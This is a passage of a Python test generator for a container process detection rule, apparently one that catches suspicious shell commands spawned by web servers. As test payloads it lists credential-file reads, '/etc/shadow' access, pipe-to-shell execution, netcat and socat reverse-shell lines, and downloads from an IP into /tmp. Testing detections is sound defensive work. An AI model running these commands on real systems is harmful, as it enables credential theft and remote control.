    ("gcp", "*/.config/gcloud/*", "cat /srv/.config/gcloud/credentials.db"),
    ("gcp", "*application_default_credentials.json*", "cat application_default_credentials.json"),
    ("gcp", "*type: service_account*", "grep 'type: service_account' sa.yaml"),
    ("gcp", "*client_email*", "grep client_email sa.json"),
    ("gcp", "*private_key_id*", "grep private_key_id sa.json"),
    ("gcp", "*private_key*", "grep private_key sa.json"),
    ("gcp", "*/run/secrets/google/*", "cat /host/run/secrets/google/key.json"),
    ("gcp", "*GOOGLE_APPLICATION_CREDENTIALS*", "printenv GOOGLE_APPLICATION_CREDENTIALS"),
    # Misc cloud
    ("cloud", "*/.docker/config.json*", "cat /root/.docker/config.json"),
    ("cloud", "*/.npmrc*", "cat /srv/.npmrc"),
    ("cloud", "*/secrets/kubernetes.io/serviceaccount/*", "cd /host/var/run/secrets/kubernetes.io/serviceaccount/ && ls"),
    # Helpers
    ("help", "*nohup*", "nohup ./worker"),
    ("help", "*setsid *", "setsid ./worker"),
    ("help", "*timeout *sh -c *", "timeout 10 sh -c id"),
    ("help", "*disown*", "./worker & disown"),
    ("help", "*env *sh *-c*", "env X=1 sh -c id"),
    # Misc
    ("misc", "*echo *", "echo pwned"),
    ("misc", "*chattr *", "chattr +i /srv/x"),
    ("misc", "*busybox *", "busybox ls"),
    ("misc", "*#!*", "printf '#!/bin/sh' > run"),
    ("misc", "*chmod +x *", "chmod +x ./run"),
    ("misc", "*chmod 777*", "chmod 777 ./run"),
    # Decompression
    ("dec", "*gzip -*d *", "gzip -d p.gz"),
    ("dec", "*gzip -*d *", "gzip -cd p.gz"),
    ("dec", "*bzip2 -*d *", "bzip2 -d p.bz2"),
    ("dec", "*xz -*d *", "xz -d p.xz"),
    ("dec", "*tar -*x*", "tar -xf p.tar"),
    # Path traversal
    ("trav", "*../../../*etc/*", "cat ../../../etc/hosts"),
    ("trav", "*/.../*", "ls /srv/.../x"),
    ("trav", "*../../../*home/*/*", "cat ../../../home/bob/notes"),
    ("trav", "*../../../*root/*", "cat ../../../root/notes"),
    # Pipes
    ("pipe", "*|*sh", "cat p.txt | sh"),
    ("pipe", "*|*sh", "cat p.txt | bash"),
    ("pipe", "*|*python*", "cat p.txt | python3"),
    ("pipe", "*|*php*", "cat p.txt | php"),
    ("pipe", "*|*perl*", "cat p.txt | perl"),
    ("pipe", "*|*ruby*", "cat p.txt | ruby"),
    ("pipe", "*|*node*", "cat p.txt | node"),
    ("pipe", "*|*lua*", "cat p.txt | lua"),
    ("pipe", "*|*busybox*", "cat p.txt | busybox"),
]
_seen = {}
for i, (grp, pat, payload) in enumerate(ARG_POS):
    parent = ROTATE[i % len(ROTATE)]
    shell = SHELLS[i % len(SHELLS)]
    n = _seen.get(grp, 0)
    _seen[grp] = n + 1
    T("arg-%s-%02d" % (grp, n),
      "Payload '%s' matches process.args like \"%s\" (case-sensitive, whole element); parent '%s' qualifies, %s -c, no exclusion string matches." % (payload, pat, parent, shell),
      ev(payload, name=shell, parent=parent))

# Interesting extra positives
for tag, payload, why in [
    ("stty-reversed", "stty -echo raw", "'stty -echo raw' fails \"*stty*raw*-echo*\" (order) but contains 'echo ' so \"*echo *\" matches"),
    ("concat", "concat a b", "'concat a b' contains 'ncat ' so \"*ncat *\" matches"),
    ("grep-ssh", "ps aux | grep -c ssh", "the element ends with 'sh' after a '|', so \"*|*sh\" matches"),
    ("grep-python", "ls | grep python", "'|' followed later by 'python' matches \"*|*python*\""),
    ("evaluate", "evaluate -e x", "'evaluate' contains 'lua' followed later by ' -e', so \"*lua* -e*\" matches"),
    ("passwd-dash", "cat /etc/passwd-", "\"*/etc/passwd*\" has a trailing `*`, so '/etc/passwd-' matches"),
    ("node-two-spaces", "node  -e 'x'", "with two spaces 'node ' + '' + ' -e ' fits \"*node * -e *\""),
    ("openssl-enc-md", "openssl enc -md sha256 -d -in p", "'openssl' ... 'enc ' ... ' -d ' fits \"*openssl*enc * -d *\""),
    ("tar-czxf", "tar -C /srv -xzf p.tgz", "'tar -' then an 'x' later fits \"*tar -*x*\""),
    ("nohup-exact", "nohup", "the whole value 'nohup' fits \"*nohup*\" (both stars empty)"),
    ("unicode-echo", "echo h\u00e9llo \u65e5\u672c", "non-ASCII text after 'echo ' is matched by the trailing `*` of \"*echo *\""),
    ("tmp-unicode", "ls /tmp/\u00fc\u00df ", "\"* /tmp/* \": ' /tmp/' then any code points then a final space"),
]:
    T("arg-extra-%s" % tag, "%s; the parent/shell/-c conditions hold and no exclusion applies." % why, ev(payload, parent="httpd"))

# Near misses: each payload matches NO pattern of the big list and does not satisfy the wget/curl branch
ARG_NEG = [
    ("tmp-nospace", "ls /tmp/x", "\"* /tmp/* \" ends with a space, and 'ls /tmp/x' does not end with one"),
    ("vartmp-nospace", "ls /var/tmp/x", "\"* /var/tmp/* \" needs a trailing space"),
    ("tmp-nolead", "ls:/tmp/x ", "\"* /tmp/* \" needs a space right before '/tmp/'"),
    ("shm-noslash", "ls /dev/shm", "\"* /dev/shm/*\" needs '/dev/shm/' with the slash"),
    ("www-noslash", "cd /var/www", "\"* /var/www/*\" needs '/var/www/'"),
    ("running", "ls /running", "\"* /run/*\" needs ' /run/'"),
    ("varrun-noslash", "ls /var/run", "\"* /var/run/*\" needs '/var/run/'"),
    ("python-script", "python3 manage.py check", "\"*python* -c*\" needs ' -c' after 'python'"),
    ("php-f", "php -f run.php", "\"*php* -r*\" needs ' -r'"),
    ("perl-script", "perl script.pl", "\"*perl* -e*\" needs ' -e'"),
    ("ruby-script", "ruby script.rb", "\"*ruby* -e*\" needs ' -e'"),
    ("lua-script", "lua script.lua", "\"*lua* -e*\" needs ' -e'"),
    ("node-e-trap", "node -e 'process.exit(0)'", "\"*node * -e *\" needs 'node ' and then a separate ' -e '; in 'node -e' the only space is shared"),
    ("base64-encode", "base64 p.bin", "\"*base64 -*d*\" needs 'base64 -' and there is no '|'"),
    ("pipe-base64-end", "cat p.txt|base64", "\"*|*base64 *\" needs a space after 'base64'"),
    ("xxd-bare", "which xxd", "\"*xxd *\" needs a space after 'xxd'"),
    ("openssl-enc-trap", "openssl enc -d -in p.enc", "\"*openssl*enc * -d *\" needs 'enc ' and then a separate ' -d '; here the space is shared"),
    ("netcat-bare", "which netcat", "\"*netcat *\" needs a space after 'netcat'"),
    ("nc-at-start", "nc 10.0.0.1 4444", "\"* nc *\" needs a space BEFORE 'nc'; the element starts with 'nc'"),
    ("ncat-bare", "which ncat", "\"*ncat *\" needs a space after 'ncat'"),
    ("dev-tty", "cat /dev/tty", "'/dev/tty' is not '/dev/tcp'"),
    ("dev-udp-noslash", "ls /dev/udp", "\"*/dev/udp/*\" needs the trailing '/'"),
    ("socat-no-lead", "socat tcp:10.0.0.1:4444 exec:sh", "\" *socat *\" starts with a space: the element must begin with a space"),
    ("openssl-version", "openssl version", "no 's_client ' or 'enc ' after openssl"),
    ("stty-sane", "stty sane", "\"*stty*raw*-echo*\" needs 'raw' and '-echo'"),
    ("crontab-read", "cat /etc/crontab", "\"*>*/etc/cron*\" needs a '>' before '/etc/cron'"),
    ("hosts", "cat /etc/hosts", "'/etc/hosts' matches no file-access pattern"),
    ("ssh-dir-noslash", "ls /home/bob/.ssh", "\"*/home/*/.ssh/*\" needs '/.ssh/' with a trailing slash"),
    ("root-ssh-nodot", "ls /root/ssh", "\"*/root/.ssh*\" needs '.ssh'"),
    ("sshrc", "cat ~/.sshrc", "\"*~/.ssh/*\" needs '~/.ssh/'"),
    ("gshadow", "cat /etc/gshadow", "'/etc/gshadow' does not contain '/etc/shadow'"),
    ("group", "cat /etc/group", "'/etc/group' matches no pattern"),
    ("passwd-cmd", "passwd -S www-data", "no '/etc/passwd' and no 'chpasswd'"),
    ("AccessKeyId", "grep AccessKeyId conf.json", "`like` is case-sensitive: 'AccessKeyId' does not match \"*accesskeyid*\""),
    ("SecretAccessKey", "grep SecretAccessKey conf.json", "`like` is case-sensitive: 'SecretAccessKey' does not match \"*secretaccesskey*\""),
    ("accesskey", "grep accesskey conf.ini", "'accesskey' is neither 'accesskeyid' nor 'access_key'"),
    ("aws-config-relative", "cat .aws/config", "\"*/.aws/config*\" needs a '/' before '.aws'"),
    ("aws-dot-literal", "cat /srv/xaws/credentials", "'.' in \"*.aws/credentials*\" is literal, 'xaws' does not match"),
    ("azure-lower", "printenv azure_client_id", "`like` is case-sensitive: 'azure_client_id' does not match \"*AZURE_CLIENT_ID*\""),
    ("azure-noslash", "ls /srv/.azure", "\"*/.azure/*\" needs '/.azure/'"),
    ("sa-nospace", "grep 'type:service_account' sa.yaml", "\"*type: service_account*\" needs the space after ':'"),
    ("privatekey", "grep privatekey sa.json", "'privatekey' has no '_'"),
    ("gac-lower", "printenv google_application_credentials", "`like` is case-sensitive"),
    ("npmrc-nodot", "cat /srv/npmrc", "\"*/.npmrc*\" needs '/.npmrc'"),
    ("k8s-partial", "cat /secrets/kubernetes.io/token", "\"*/secrets/kubernetes.io/serviceaccount/*\" needs 'serviceaccount/'"),
    ("setsid-bare", "which setsid", "\"*setsid *\" needs a space after 'setsid'"),
    ("timeout-noshell", "timeout 10 id", "\"*timeout *sh -c *\" needs 'sh -c '"),
    ("env-nosh", "env HOME=/srv bash", "\"*env *sh *-c*\" needs 'sh ' (with a space) and '-c' afterwards"),
    ("printf", "printf hi", "no pattern matches 'printf hi'"),
    ("echo-bare", "which echo", "\"*echo *\" needs a space after 'echo'"),
    ("lsattr", "lsattr /srv/x", "'lsattr' is not 'chattr '"),
    ("busybox-bare", "which busybox", "\"*busybox *\" needs a space after 'busybox'"),
    ("hash-nobang", "printf '#/bin/sh'", "\"*#!*\" needs '#!'"),
    ("chmod-ux", "chmod u+x ./run", "\"*chmod +x *\" needs 'chmod +x '"),
    ("chmod-755", "chmod 755 ./run", "\"*chmod 777*\" needs '777'"),
    ("chmod-plus-x-end", "chmod +x", "\"*chmod +x *\" needs a space after '+x'"),
    ("gzip-compress", "gzip p", "\"*gzip -*d *\" needs 'gzip -'"),
    ("gunzip", "gunzip p.gz", "'gunzip' is not 'gzip -'"),
    ("tar-nodash", "tar xf p.tar", "\"*tar -*x*\" needs 'tar -'"),
    ("tar-create", "tar -czf b.tgz .", "\"*tar -*x*\" needs an 'x' after 'tar -'"),
    ("trav-two", "cat ../../etc/hosts", "path traversal patterns need three '../'"),
    ("dots-end", "ls /srv/...", "\"*/.../*\" needs '/.../' with a trailing slash"),
    ("pipe-sh-s", "cat p.txt | sh -s", "\"*|*sh\" must end with 'sh'; this ends with '-s'"),
    ("pipe-wc", "cat p.txt | wc -l", "no pipe pattern target follows the '|'"),
    ("id", "id", "'id' matches no pattern"),
    ("uname", "uname -a", "'uname -a' matches no pattern"),
    ("whoami", "whoami", "'whoami' matches no pattern"),
    ("ps", "ps aux", "'ps aux' matches no pattern"),
]
for i, (tag, payload, why) in enumerate(ARG_NEG):
    parent = ROTATE[i % len(ROTATE)]
    F("arg-miss-%s" % tag, "Argument block fails: %s; no other big-list pattern matches and there is no wget/curl." % why,
      ev(payload, parent=parent))

# ---------------------------------------------------------------------------
# dl: wget/curl sub-branch
# ---------------------------------------------------------------------------
DL = [
    (True, "o-ip", "curl -o out.bin http://10.0.0.1/a", "\"*curl *\", like~ \"* -o *\" and the IP regex all match"),
    (True, "O-ip", "wget -O out.bin http://10.0.0.1/a", "like~ is case-insensitive so ' -O ' fits \"* -o *\"; IP regex matches"),
    (True, "output", "wget --output-document=out 10.0.0.1/a", "\"* --output*\" and the IP regex match"),
    (True, "output-upper", "curl --OUTPUT out 10.0.0.1", "like~ folds case for \"* --output*\"; IP regex matches"),
    (True, "o-dash", "wget -q -O- http://10.1.2.3/a > out", "' -O- ' fits like~ \"* -o- *\"; IP regex matches"),
    (True, "curl-O", "curl -O 10.0.0.1/a", "' -O ' fits like~ \"* -o *\"; IP regex matches"),
    (True, "version", "curl -o nginx.tgz http://example.com/nginx-1.22.3.1.tgz", "the IP regex also matches the version string '1.22.3.1' (known trap)"),
    (True, "ip-invalid", "curl -o out 999.999.999.999", "the regex only checks 1-3 digits per group, so '999.999.999.999' matches"),
    (True, "ip-long-prefix", "curl -o out 1234.5.6.7", "leading '.*' lets the regex match '234.5.6.7' inside '1234.5.6.7'"),
    (True, "https-tmp", "curl https://example.com/a -o /tmp/a", "no IP, but \"*https://*\" and \"* /tmp/*\" (no trailing space here) match"),
    (True, "http-tmp", "curl http://example.com/a -o /tmp/a", "no IP, but \"*http://*\" and \"* /tmp/*\" match"),
    (True, "http-vartmp", "curl http://example.com/a -o /var/tmp/a", "\"*http://*\" and \"* /var/tmp/*\" match"),
    (True, "http-home-tilde", "curl http://example.com/a -o ~/a", "\"*http://*\" and \"* ~/*\" match"),
    (True, "http-home", "curl http://example.com/a -o /home/bob/a", "\"*http://*\" and \"* /home/*\" match"),
    (True, "http-www", "curl http://example.com/a -o /var/www/html/a", "\"*http://*\" and \"* /var/www/*\" match (also the main list)"),
    (True, "http-shm", "curl http://example.com/a -o /dev/shm/a", "the download list's \"* /dev/shm/* \" needs a trailing space, but the main list's \"* /dev/shm/*\" matches anyway"),
    (True, "http-run", "wget http://example.com/a -O /run/a", "\"* /run/*\" matches (main list and download list)"),
    (True, "wget-P-slash", "wget -P /tmp/ http://example.com/a", "\"*wget *\", \"*http://*\" and \"* /tmp/*\" match"),
    (True, "tmp-trailing", "curl http://example.com/a -o /tmp/a ", "with a trailing space the main list's \"* /tmp/* \" matches too"),
    (True, "usr-bin-wget", "/usr/bin/wget -O x 10.0.0.1", "'/usr/bin/wget ' contains 'wget '; -O and IP match"),
    (False, "version-3", "curl -o nginx.tgz http://example.com/nginx-1.22.3.tgz", "'1.22.3' has only three groups so the IP regex fails, and there is no http + path"),
    (False, "no-o", "curl http://10.0.0.1/a", "no ' -o ' / ' --output' / ' -o- ' and no path from the download list"),
    (False, "o-at-end", "curl 10.0.0.1/a -o", "\"* -o *\" needs a space after '-o'; the element ends with '-o'"),
    (False, "sSLo", "curl -sSLo out 10.0.0.1/a", "'-sSLo' is not ' -o '; no http + path"),
    (False, "CURL", "CURL -o out 10.0.0.1", "\"*curl *\" is case-sensitive `like`, 'CURL' fails, and nothing in the main list matches"),
    (False, "http-opt", "curl http://example.com/a -o /opt/a", "no IP for the -o branch and '/opt/' is not in the download path list"),
    (False, "noscheme-tmp", "curl -o /tmp/a example.com/a", "no IP and no http(s)://; main list \"* /tmp/* \" needs a trailing space"),
    (False, "ftp-tmp", "curl ftp://example.com/a -o /tmp/a", "the path branch needs http:// or https://; no IP"),
    (False, "HTTP-upper", "curl HTTP://example.com/a -o /tmp/a", "\"*http://*\" is case-sensitive `like`; no IP"),
    (False, "wget-P-noslash", "wget http://example.com/a -P /tmp", "\"* /tmp/*\" needs '/tmp/' with a slash"),
    (False, "arabic-digits", "curl -o x \u0661\u0660.\u0660.\u0660.\u0661", "[0-9] in the regex is the ASCII range; Arabic-Indic digits do not match"),
    (False, "ipv6", "wget -O out http://[::1]/a", "no dotted quad and no path"),
    (False, "wget-no-space", "/usr/bin/wget", "\"*wget *\" needs a space after 'wget'"),
]
for ok, tag, payload, why in DL:
    (T if ok else F)("dl-%s" % tag, "wget/curl branch: %s." % why, ev(payload, parent="uwsgi"))

T("dl-cross-ip", "Each predicate on a multi-valued field is tested independently: '*wget *' and ' -O ' hit element 2 and the IP regex hits element 3 ('10.0.0.1', the $0 of sh -c).",
  ev(args=["sh", "-c", "wget -O out http://example.com/a", "10.0.0.1"], parent="uwsgi"))
T("dl-cross-path", "\"*curl *\" and \"*http://*\" hit element 2 and \"* /tmp/*\" hits element 3; predicates are independent per field.",
  ev(args=["sh", "-c", "curl http://example.com/a", "x /tmp/a"], parent="uwsgi"))
F("dl-split-wget", "\"*wget *\" needs 'wget ' inside one element; here 'wget' is its own element, and no element matches the main list.",
  ev(args=["sh", "-c", "wget", "-O", "out", "10.0.0.1"], parent="uwsgi"))
T("dl-newline-ip", "Lucene '.' matches newline, so '.*' spans the '\\n' before the IP; \"*curl *\" and \" -o \" match.",
  ev("curl -o out x\nhttp://10.0.0.1/a", parent="uwsgi"))

# ---------------------------------------------------------------------------
# sh: process.name in (shells)
# ---------------------------------------------------------------------------
for s in ["bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish", "mksh", "busybox"]:
    T("sh-%s" % s, "process.name '%s' is in the shell list; '-c' present; payload matches \"*/etc/passwd*\"." % s, ev(name=s, parent="caddy"))
for s, why in [("python3", "'python3' is not a listed shell"), ("ash", "'ash' is not listed (busybox ash would be named busybox)"),
               ("Bash", "`in` is case-sensitive"), ("MKSH", "`in` is case-sensitive"), ("rbash", "'rbash' is not listed"),
               ("bash ", "`in` is exact; trailing space"), ("/bin/bash", "process.name is compared exactly; the full path is not 'bash'")]:
    F("sh-miss-%s" % s.strip().replace("/", "_"), "Shell check fails: %s." % why,
      ev(args=[s.strip(), "-c", BASE], name=s, parent="caddy"))
F("sh-miss-name-missing", "process.name missing: `in` on a missing field is false.", ev(args=["sh", "-c", BASE], name=MISSING, parent="caddy"))

# ---------------------------------------------------------------------------
# dc: process.args in ("-c", "-cl", "-lc")
# ---------------------------------------------------------------------------
for tag, a, ok, why in [
    ("c", ["sh", "-c", BASE], True, "'-c' equals a listed value"),
    ("cl", ["bash", "-cl", BASE], True, "'-cl' equals a listed value"),
    ("lc", ["bash", "-lc", BASE], True, "'-lc' equals a listed value"),
    ("l-c", ["bash", "-l", "-c", BASE], True, "'-c' appears as its own element"),
    ("i-c", ["bash", "-i", "-c", BASE], True, "'-c' appears as its own element"),
    ("c-last", ["sh", BASE, "-c"], True, "`in` over an array: any element may equal '-c', position does not matter"),
    ("C", ["sh", "-C", BASE], False, "`in` is case-sensitive: '-C' is not '-c'"),
    ("ic", ["bash", "-ic", BASE], False, "'-ic' is not one of the three exact values"),
    ("lic", ["bash", "-lic", BASE], False, "'-lic' is not one of the three exact values"),
    ("xc", ["sh", "-xc", BASE], False, "'-xc' is not listed"),
    ("ec", ["sh", "-ec", BASE], False, "'-ec' is not listed"),
    ("CL", ["bash", "-CL", BASE], False, "`in` is case-sensitive"),
    ("LC", ["bash", "-LC", BASE], False, "`in` is case-sensitive"),
    ("c-space", ["sh", "-c ", BASE], False, "'-c ' (trailing space) is not exactly '-c'"),
    ("unicode-minus", ["sh", "\u2212c", BASE], False, "U+2212 MINUS SIGN is not '-'"),
    ("script", ["sh", "/srv/run.sh"], False, "no '-c' at all (and '/srv/run.sh' matches no argument pattern)"),
]:
    (T if ok else F)("dc-%s" % tag, "Shell flag check: %s." % why, ev(args=a, name=a[0], parent="daphne"))

# ---------------------------------------------------------------------------
# ex: exclusion blocks
# ---------------------------------------------------------------------------
EX = [
    # nginx resty
    (False, "nginx-resty-chmod", "nginx", ["sh", "-c", "chmod 777 /etc/resty-auto-ssl"], "\"*chmod 777*\" matches but nginx + \"chmod 777 /etc/resty-*\" excludes it"),
    (True, "httpd-resty-chmod", "httpd", ["sh", "-c", "chmod 777 /etc/resty-auto-ssl"], "the resty exclusion needs parent == 'nginx'; \"*chmod 777*\" matches"),
    (True, "nginx-resty-nodash", "nginx", ["sh", "-c", "chmod 777 /etc/resty"], "'/etc/resty' lacks the '-' of \"chmod 777 /etc/resty-*\" and does not start with 'resty'"),
    (True, "nginx-Resty-case", "nginx", ["sh", "-c", "chmod 777 /etc/Resty-auto-ssl"], "exclusion `like` is case-sensitive; 'Resty' escapes it"),
    (False, "nginx-resty-star", "nginx", ["sh", "-c", "resty -e 'ngx.say(1)' > /var/www/x"], "\"* /var/www/*\" matches but the element starts with 'resty' so nginx + \"resty*\" excludes it"),
    (True, "nginx-resty-leadspace", "nginx", ["sh", "-c", " resty -e 'ngx.say(1)' > /var/www/x"], "a leading space means the element does not start with 'resty'; \"* /var/www/*\" matches"),
    (True, "nginx-Resty-start", "nginx", ["sh", "-c", "Resty -e 'ngx.say(1)' > /var/www/x"], "\"resty*\" is case-sensitive; 'Resty' escapes it"),
    (False, "nginx-resty-elem", "nginx", ["sh", "-c", BASE, "resty"], "the separate element 'resty' fits \"resty*\"; the `not` excludes if ANY element matches"),
    (False, "nginx-resty-tail", "nginx", ["sh", "-c", "chmod 777 /etc/resty-x; cat /etc/shadow"], "the trailing `*` of \"chmod 777 /etc/resty-*\" swallows the appended command, so it is excluded"),
    # apache2
    (False, "apache2-phpver-local", "apache2", ["sh", "-c", "/usr/local/bin/php -r 'echo phpversion();'"], "\"*php* -r*\" matches but the value is in the apache2 exact exclusion list"),
    (False, "apache2-phpver-usr", "apache2", ["sh", "-c", "/usr/bin/php -r 'echo phpversion();'"], "value is in the apache2 exact exclusion list"),
    (True, "httpd-phpver", "httpd", ["sh", "-c", "/usr/bin/php -r 'echo phpversion();'"], "the apache2 exclusion needs parent == 'apache2'; \"*php* -r*\" and \"*echo *\" match"),
    (True, "apache2-phpver-php82", "apache2", ["sh", "-c", "/usr/bin/php8.2 -r 'echo phpversion();'"], "`in` is exact; 'php8.2' differs from the listed strings"),
    (True, "apache2-phpver-trailing", "apache2", ["sh", "-c", "/usr/bin/php -r 'echo phpversion();' "], "`in` is exact; the trailing space escapes it"),
    (True, "apache2-phpver-dq", "apache2", ["sh", "-c", "/usr/bin/php -r \"echo phpversion();\""], "`in` is exact; double quotes differ from the listed single quotes"),
    (True, "apache2-phpver-2sp", "apache2", ["sh", "-c", "/usr/bin/php  -r 'echo phpversion();'"], "`in` is exact; two spaces differ, and \"*php* -r*\" still matches"),
    (True, "apache2-PHP-case", "apache2", ["sh", "-c", "/usr/bin/PHP -r 'echo phpversion();'"], "exact `in` fails on 'PHP'; \"*php* -r*\" fails too (case-sensitive) but \"*echo *\" matches"),
    (False, "apache2-phpver-elem", "apache2", ["sh", "-c", BASE, "/usr/bin/php -r 'echo phpversion();'"], "one element equals an excluded string; `not` excludes if ANY element matches"),
    (False, "apache2-collabora", "apache2", ["sh", "-c", "bash -c \"( /home/nextcloud/apps/richdocumentscode/collabora/Collabora_Online.AppImage --version ) && echo ok\""],
     "\"*echo *\" matches but the raw-string like 'bash -c \"( /home/*/apps/richdocumentscode/collabora/Collabora_Online.AppImage*' excludes it"),
    (False, "apache2-collabora-deep", "apache2", ["sh", "-c", "bash -c \"( /home/a/b/apps/richdocumentscode/collabora/Collabora_Online.AppImage --version ) && echo ok\""],
     "`*` in '/home/*/apps' spans 'a/b', so the Collabora exclusion still matches"),
    (True, "apache2-collabora-sq", "apache2", ["sh", "-c", "bash -c '( /home/nextcloud/apps/richdocumentscode/collabora/Collabora_Online.AppImage --version ) && echo ok'"],
     "the exclusion needs a double quote after '-c '; single quotes escape it and \"*echo *\" matches"),
    (True, "apache2-collabora-varwww", "apache2", ["sh", "-c", "bash -c \"( /var/www/nextcloud/apps/richdocumentscode/collabora/Collabora_Online.AppImage --version ) && echo ok\""],
     "the exclusion needs '( /home/'; '/var/www' escapes it and \"* /var/www/*\" matches"),
    (True, "apache2-collabora-lower", "apache2", ["sh", "-c", "bash -c \"( /home/nextcloud/apps/richdocumentscode/collabora/collabora_online.appimage --version ) && echo ok\""],
     "the exclusion `like` is case-sensitive; lowercase 'collabora_online.appimage' escapes it"),
    (True, "httpd-collabora", "httpd", ["sh", "-c", "bash -c \"( /home/nextcloud/apps/richdocumentscode/collabora/Collabora_Online.AppImage --version ) && echo ok\""],
     "the Collabora exclusion needs parent == 'apache2'"),
    # php-fpm*
    (False, "fpm-phpver", "php-fpm8.2", ["sh", "-c", "/usr/bin/php -r 'echo phpversion();'"], "parent fits \"php-fpm*\" and the value is in its exact exclusion list"),
    (False, "fpm-print_r", "php-fpm", ["sh", "-c", "php -r 'print_r(phpversion());'"], "\"*php* -r*\" matches but the php-fpm exclusion lists this exact string"),
    (False, "fpm-chattr", "php-fpm7.4", ["sh", "-c", "chattr -i -a /usr/local/virtualizor/license2.php"], "\"*chattr *\" matches but the php-fpm exclusion lists this exact string"),
    (False, "fpm-pool-phpver", "php-fpm: pool www", ["sh", "-c", "/usr/bin/php -r 'echo phpversion();'"], "'php-fpm: pool www' fits \"php-fpm*\" for the exclusion too"),
    (True, "fpm-local-phpver", "php-fpm8.2", ["sh", "-c", "/usr/local/bin/php -r 'echo phpversion();'"], "the php-fpm list has only '/usr/bin/php ...'; the /usr/local variant is excluded only for apache2"),
    (True, "fpm-chattr-license", "php-fpm8.2", ["sh", "-c", "chattr -i -a /usr/local/virtualizor/license.php"], "exact `in`: 'license.php' is not 'license2.php'"),
    (True, "fpm-chattr-plus", "php-fpm8.2", ["sh", "-c", "chattr +i -a /usr/local/virtualizor/license2.php"], "exact `in`: '+i' differs from '-i'"),
    (True, "fpm-print_r-dq", "php-fpm", ["sh", "-c", "php -r \"print_r(phpversion());\""], "exact `in`: double quotes differ"),
    (True, "cgi-print_r", "php-cgi", ["sh", "-c", "php -r 'print_r(phpversion());'"], "the print_r exclusion belongs to php-fpm*; php-cgi has only nohup patterns"),
    # php-cgi nohup
    (False, "cgi-lockindex", "php-cgi", ["sh", "-c", "nohup php /home/bob/public_html/lockindex.php index.php >/dev/null 2>&1 &"], "\"*nohup*\" matches but php-cgi + the lockindex pattern excludes it"),
    (False, "cgi-wpcontent", "php-cgi", ["sh", "-c", "nohup php /home/bob/public_html/wp-content/plugins/x/cron.php >> /dev/null 2>&1 &"], "php-cgi + the wp-content nohup pattern excludes it"),
    (False, "cgi-wpincludes", "php-cgi", ["sh", "-c", "nohup php /home/bob/public_html/wp-includes/cron.php >> /dev/null 2>&1 &"], "php-cgi + the wp-includes nohup pattern excludes it"),
    (False, "cgi-sub-wpcontent", "php-cgi", ["sh", "-c", "nohup php /home/bob/public_html/blog/wp-content/cron.php >> /dev/null 2>&1 &"], "php-cgi + the '/public_html/*/wp-content/' pattern excludes it"),
    (False, "cgi-wpcontent-injected", "php-cgi", ["sh", "-c", "nohup php /home/bob/public_html/wp-content/x.php; cat /etc/shadow >> /dev/null 2>&1 &"], "the `*` after 'wp-content/' spans the injected command and the value still ends with ' >> /dev/null 2>&1 &', so it is excluded"),
    (True, "cagefs-lockindex", "php-cgi.cagefs", ["sh", "-c", "nohup php /home/bob/public_html/lockindex.php index.php >/dev/null 2>&1 &"], "the nohup exclusion needs parent == 'php-cgi' exactly"),
    (True, "cgi-lockindex-append", "php-cgi", ["sh", "-c", "nohup php /home/bob/public_html/lockindex.php index.php >>/dev/null 2>&1 &"], "'>>' differs from the pattern's '>'"),
    (True, "cgi-wpcontent-noamp", "php-cgi", ["sh", "-c", "nohup php /home/bob/public_html/wp-content/cron.php >> /dev/null 2>&1"], "the pattern must match the whole value, which lacks the final ' &'"),
    (True, "cgi-varwww", "php-cgi", ["sh", "-c", "nohup php /var/www/public_html/wp-content/cron.php >> /dev/null 2>&1 &"], "the pattern needs '/home/'; \"*nohup*\" matches"),
    (True, "cgi-lockindex-tail", "php-cgi", ["sh", "-c", "nohup php /home/bob/public_html/lockindex.php index.php >/dev/null 2>&1 &; cat /etc/shadow"], "the pattern ends in '&' with no trailing `*`; the appended command escapes it"),
    (True, "fpm-lockindex", "php-fpm8.2", ["sh", "-c", "nohup php /home/bob/public_html/lockindex.php index.php >/dev/null 2>&1 &"], "the nohup exclusion is only for php-cgi"),
]
for ok, tag, parent, a, why in EX:
    (T if ok else F)("ex-%s" % tag, "Exclusion block: %s." % why, ev(args=a, name=a[0], parent=parent))

# ---------------------------------------------------------------------------
# int: process.parent.interactive == false
# ---------------------------------------------------------------------------
T("int-false", "process.parent.interactive is boolean false, so `== false` holds; everything else matches.", ev(pint=False))
F("int-true", "process.parent.interactive is true, so `== false` fails.", ev(pint=True))
F("int-missing", "process.parent.interactive missing: a comparison on a missing field is false.", ev(pint=MISSING))
F("int-null", "process.parent.interactive null: null has no value, comparison is false.", ev(pint=None))
T("int-str-false", "Keyword booleans accept the string \"false\", which equals false.", ev(pint="false"))
F("int-str-true", "The string \"true\" is the boolean true, so `== false` fails.", ev(pint="true"))
F("int-empty-array", "An empty array has no value, so `== false` fails.", ev(pint=[]))
T("int-child-interactive", "Only the PARENT's interactivity is tested; process.interactive true does not matter.", ev(pint=False, interactive=True))
T("int-child-missing", "process.interactive is not referenced by the rule; its absence does not matter.", ev(pint=False, interactive=MISSING))

# ---------------------------------------------------------------------------
# cid: container.id like "?*"
# ---------------------------------------------------------------------------
T("cid-hex", "A 64-hex container id fits \"?*\".", ev(cid=CID))
F("cid-missing", "container.id missing: `like` on a missing field is false (host process).", ev(cid=MISSING))
F("cid-empty", "\"?*\" needs at least one character; \"\" has none.", ev(cid=""))
F("cid-null", "container.id null has no value, so `like` is false.", ev(cid=None))
T("cid-one-char", "A single character fits \"?\" followed by an empty `*`.", ev(cid="a"))
T("cid-space", "A single space is one character, so it fits \"?*\".", ev(cid=" "))
T("cid-e-acute", "'\u00e9' is one code point (two UTF-8 bytes); `?` matches exactly one code point.", ev(cid="\u00e9"))
T("cid-emoji", "'\U0001f642' is one code point (four UTF-8 bytes); `?` matches it.", ev(cid="\U0001f642"))
T("cid-cjk", "'\u65e5' is one code point (three UTF-8 bytes); `?` matches it.", ev(cid="\u65e5"))
F("cid-empty-array", "An empty array has no value; `like` is false.", ev(cid=[]))
F("cid-array-empty-string", "The only value is \"\", which does not fit \"?*\".", ev(cid=[""]))
T("cid-array-mixed", "Any element may satisfy the predicate: the second element fits \"?*\".", ev(cid=["", CID]))
d = ev()
del d["container"]["id"]
F("cid-object-no-id", "container object present without id: container.id is missing, so `like` is false.", d)

# ---------------------------------------------------------------------------
# cat: event.category / type / action
# ---------------------------------------------------------------------------
F("cat-missing", "`process where` needs event.category to contain 'process'; here it is missing.", ev(cat=MISSING))
F("cat-network", "event.category ['network'] does not contain 'process'.", ev(cat=("network",)))
T("cat-string", "A single string 'process' is the same as a one-element array.", ev(cat="process"))
